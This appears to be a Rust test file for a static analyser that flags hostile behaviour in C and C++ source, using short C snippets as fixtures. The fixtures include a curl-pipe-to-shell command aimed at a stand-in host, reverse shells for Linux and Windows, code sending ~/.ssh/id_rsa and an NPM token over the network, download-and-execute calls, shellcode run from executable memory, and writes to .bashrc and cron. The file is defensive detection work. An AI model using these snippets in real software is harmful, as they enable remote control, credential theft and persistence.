use proptest::prelude::*;

use super::*;
use crate::model::{CapabilityKind, Fact, FactKind};

fn facts(source: &str) -> Vec<Fact> {
    parse("src/a.c", source).facts
}

/// Shapes and flows, sorted.
fn harm(source: &str) -> Vec<String> {
    let found = facts(source);
    let mut names: Vec<String> = found
        .into_iter()
        .filter(|fact| matches!(fact.kind, FactKind::Shape | FactKind::Flow))
        .map(|fact| fact.name)
        .collect();
    names.sort();
    names.dedup();
    names
}

fn calls(source: &str) -> Vec<(String, u32, CapabilityKind)> {
    let found = facts(source).into_iter().filter(|fact| fact.kind == FactKind::Call);
    found.filter_map(|fact| Some((fact.name, fact.span.line, fact.capability?))).collect()
}

#[test]
fn calls_with_their_lines() {
    use CapabilityKind::{Env, FsRead, FsWrite, Net, Process};
    let source = "#include <x.h>\nint connect(int a);\nstatic void f(void) {\n  getenv(\"A\");\n  fopen(\"a\", \"rb\"); fopen(\"b\", \"w\");\n  ::socket(AF_INET, SOCK_STREAM, 0);\n  std::system(line);\n  x->connect(y); Q::connect(z);\n}\n";
    assert_eq!(
        calls(source),
        [
            ("c::getenv".to_owned(), 4, Env),
            ("c::fopen".to_owned(), 5, FsRead),
            ("c::fopen".to_owned(), 5, FsWrite),
            ("c::socket".to_owned(), 6, Net),
            ("c::system".to_owned(), 7, Process),
        ]
    );
    // One's own function of that name, dead code, comments and texts are none.
    assert_eq!(calls("static int system(int a) { return a; }\nint g(void) { return system(2); }\n"), []);
    assert_eq!(
        calls(
            "#if 0\nint f(void) { return system(\"x\"); }\n#endif\n/* system(1) */ char *s = \"system(x)\";\n"
        ),
        []
    );
    assert_eq!(calls("#define RUN popen\nvoid f(void) { RUN(\"ls\", \"r\"); }\n").len(), 1);
}

#[test]
fn constants_are_put_together() {
    let commands = |source: &str| -> Vec<String> {
        let all =
            facts(source).into_iter().filter(|fact| fact.kind == FactKind::Literal && fact.name == "command");
        all.map(|fact| fact.value).collect()
    };
    let source = "#define HOST \"a.\" \"invalid\"\nvoid f(void) { char line[99]; snprintf(line, sizeof line, \"curl -s https://%s/%d | sh\", HOST, n); system(line); }\n";
    assert_eq!(commands(source), ["curl -s https://a.invalid/? | sh"]);
    let source = "void f(void) { char b[9] = \"cu\"; strcat(b, \"rl x\"); system(b); }";
    assert_eq!(commands(source), ["curl x"]);
    let source = "void f(void) { std::string s = \"wget \"; s += \"-q x\"; system(s.c_str()); }";
    assert_eq!(commands(source), ["wget -q x"]);
    let source =
        "void f(void) { char *const a[] = {\"sh\", \"-c\", \"id > /tmp/x\", 0}; execv(\"/bin/sh\", a); }";
    assert_eq!(commands(source), ["/bin/sh -c id > /tmp/x", "id > /tmp/x"]);
}

#[test]
fn shells_for_the_other_end() {
    let parts = |tie: &str, exec: &str| {
        format!(
            "static void give(int fd) {{ for (int i = 0; i < 3; i++) {tie}; {exec}; }}
             int start(void) {{ struct sockaddr_in a; int s = socket(AF_INET, SOCK_STREAM, 0);
               if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) give(s); return 0; }}"
        )
    };
    assert_eq!(harm(&parts("dup2(fd, i)", "execl(\"/bin/sh\", \"sh\", (char *)0)")), ["reverse-shell"]);
    assert_eq!(
        harm(
            &parts("dup3(fd, i, 0)", "execve(SHELL, argv, environ)")
                .replace("static void", "#define SHELL \"/bin/\" \"bash\"\nstatic void")
        ),
        ["reverse-shell"]
    );
    assert_eq!(harm(&parts("dup2(fd, i)", "execl(\"/usr/bin/git\", \"git\", (char *)0)")), [""; 0]);
    assert_eq!(harm(&parts("dup2(pipes[1], i)", "execl(\"/bin/sh\", \"sh\", (char *)0)")), [""; 0]);
    let windows = "void f(void) { SOCKET s = WSASocketA(2, 1, 6, 0, 0, 0); WSAConnect(s, &a, sizeof a, 0, 0, 0, 0);
        si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)s; CreateProcessA(0, \"cmd.exe\", 0, 0, 1, 0, 0, 0, &si, &pi); }";
    assert_eq!(harm(windows), ["reverse-shell"]);
}

#[test]
fn what_runs_when_it_is_loaded() {
    let start = |head: &str| format!("static void go(void) {{ popen(\"id\", \"r\"); }}\n{head}");
    for head in [
        "__attribute__((constructor)) static void a(void) { go(); }",
        "static void a(void) __attribute__((constructor));\nstatic void a(void) { go(); }",
        "PyMODINIT_FUNC PyInit_speed(void) { go(); return PyModule_Create(&m); }",
        "NAPI_MODULE_INIT() { go(); return exports; }",
        "static napi_value Init(napi_env e, napi_value x) { go(); return x; }\nNAPI_MODULE(NODE_GYP_MODULE_NAME, Init)\n",
        "JNIEXPORT jint JNICALL JNI_OnLoad(JavaVM *vm, void *r) { pthread_create(&t, 0, go, 0); return 1; }",
        "BOOL WINAPI DllMain(HINSTANCE h, DWORD why, LPVOID r) { go(); return TRUE; }",
        "static void a(void) { go(); }\n__attribute__((section(\".init_array\"))) void (*p)(void) = a;\n",
        "static int a() { go(); return 1; }\nstatic int ready = a();\n",
        "struct Boot { Boot() { go(); } };\nstatic Boot boot;\n",
        "PYBIND11_MODULE(speed, m) { go(); }",
    ] {
        assert_eq!(harm(&start(head)), ["native-start"], "{head}");
    }
    assert_eq!(harm(&start("int run(void) { go(); return 0; }")), [""; 0]);
    assert_eq!(
        harm(
            "__attribute__((constructor)) static void a(void) { getenv(\"X\"); fork(); socket(AF_UNIX, 1, 0); }"
        ),
        [""; 0]
    );
    let table = "static PyMethodDef all[] = {{\"go\", go, METH_NOARGS, 0}};\nPyMODINIT_FUNC PyInit_a(void) { return PyModule_Create(&all); }";
    assert_eq!(harm(&start(table)), [""; 0]);
}

#[test]
fn secrets_and_commands_over_connections() {
    let sends = "static int up(const char *b, int n) { int s = socket(AF_INET, 1, 0); connect(s, &a, 16); return send(s, b, n, 0); }
        void f(void) { char p[99], b[999]; snprintf(p, sizeof p, \"%s/.ssh/id_rsa\", getenv(\"HOME\"));
          FILE *h = fopen(p, \"rb\"); int n = fread(b, 1, sizeof b, h); up(b, n); }";
    assert_eq!(harm(sends), ["secret-file->net"]);
    assert_eq!(harm(&sends.replace(".ssh/id_rsa", ".cache/words")), [""; 0]);
    let posted = "void f(CURL *c) { curl_easy_setopt(c, CURLOPT_POSTFIELDS, getenv(\"NPM_TOKEN\")); curl_easy_perform(c); }";
    assert_eq!(harm(posted), ["env->net"]);
    let runs =
        "void f(int s) { char line[99]; int fd = socket(2, 1, 0); recv(fd, line, 99, 0); system(line); }";
    assert_eq!(harm(runs), ["net->process"]);
    assert_eq!(harm("void f(int s) { char line[99]; recv(s, line, 99, 0); system(\"ls\"); }"), [""; 0]);
    let fetched = "void f(void) { URLDownloadToFileA(0, \"https://a.invalid/x\", \"C:\\\\t.exe\", 0, 0); ShellExecuteA(0, \"open\", \"C:\\\\t.exe\", 0, 0, 0); }";
    assert_eq!(harm(fetched), ["fetched-program"]);
}

#[test]
fn memory_that_is_filled_and_run() {
    let table: String = (0..40).map(|n| format!("0x{:02x},", 0x90 + n)).collect();
    let code =
        |rest: &str| format!("static const unsigned char code[] = {{{table}}};\nvoid f(void) {{ {rest} }}");
    for rest in [
        "void *m = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, 34, -1, 0); memcpy(m, code, sizeof code); ((void (*)(void))m)();",
        "void *m = VirtualAlloc(0, 4096, MEM_COMMIT, PAGE_EXECUTE_READWRITE); memcpy(m, code, sizeof code); CreateThread(0, 0, m, 0, 0, 0);",
        "void (*go)(void) = mmap(0, 9, PROT_EXEC, 34, -1, 0); memcpy(go, code, 40); go();",
        "mprotect((void *)code, 4096, PROT_READ | PROT_EXEC); ((void (*)(void))code)();",
        "WriteProcessMemory(other, at, code, sizeof code, 0);",
    ] {
        assert_eq!(harm(&code(rest)), ["decoded->memory"], "{rest}");
    }
    for rest in [
        "void *m = mmap(0, 4096, PROT_EXEC, 34, -1, 0); emit(m, ops); ((void (*)(void))m)();",
        "void *m = malloc(40); memcpy(m, code, sizeof code); use(m);",
        "callback = (void (*)(void))find(name); callback();",
    ] {
        assert_eq!(harm(&code(rest)), [""; 0], "{rest}");
    }
}

#[test]
fn start_up_files() {
    let source = "void f(void) { char p[99]; sprintf(p, \"%s/.bashrc\", getenv(\"HOME\")); FILE *h = fopen(p, \"a\"); fputs(\"x\", h); }";
    assert_eq!(harm(source), ["startup-file"]);
    assert_eq!(harm(&source.replace("\"a\"", "\"r\"")), [""; 0]);
    assert_eq!(harm("void f() { std::ofstream out(\"/etc/cron.d/a\"); out << x; }"), ["startup-file"]);
}

#[test]
fn branches_of_the_preprocessor_keep_functions_apart() {
    let source = "void a(void) {\n#ifdef X\n  if (x) {\n#else\n  if (y) {\n#endif\n  }\n}\n__attribute__((constructor)) void b(void) { getenv(\"A\"); }\nvoid c(void) { system(\"x\"); }\n";
    assert_eq!(harm(source), [""; 0]);
}

#[test]
fn work_grows_with_the_file() {
    let inputs = [
        format!("void f(void) {{ {} }}", "system(".repeat(60_000)),
        format!("int a = {}", "{} ".repeat(60_000)),
        format!("void f(void) {{ {} }}", "a[0]".repeat(60_000)),
        format!("void f(void) {{ {} = system }}", "]".repeat(60_000)),
        format!("void f(void) {{ system({{{}); }}", "{".repeat(60_000)),
        (0..8_000).map(|n| format!("void f{n}(void) {{ f{}(); popen(a); }}\n", n + 1)).collect(),
        format!(
            "void f(void) {{ char s[9] = \"popen\"; {} }}",
            "strcat(s, \"aaaaaaaaaaaaaaaaaaaaaa\");".repeat(20_000)
        ),
        format!(
            "#define A {}\nvoid f(void) {{ {} popen(A); }}",
            "A ".repeat(60),
            "system(A A A);".repeat(5_000)
        ),
    ];
    let start = std::time::Instant::now();
    for input in &inputs {
        parse("a.c", input);
    }
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
}

proptest! {
    #[test]
    fn no_text_panics(text in "\\PC{0,300}", soup in "[a-z\"'(){}\\[\\];,=+#*&.:<>/\\\\\n 0-9-]{0,300}") {
        let calls = format!("void f(void) {{ system({soup}); {text} }}\n{soup} popen {text}");
        for text in [&text, &soup, &calls] {
            let parsed = parse("a.cc", text);
            prop_assert!(parsed.facts.iter().all(|fact| fact.span.end as usize <= text.len()));
        }
    }

    #[test]
    fn no_bytes_panic(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let mut all = b"int f(){system(".to_vec();
        all.extend(bytes);
        drop(crate::check::parse::file("a.c", &all));
    }
}
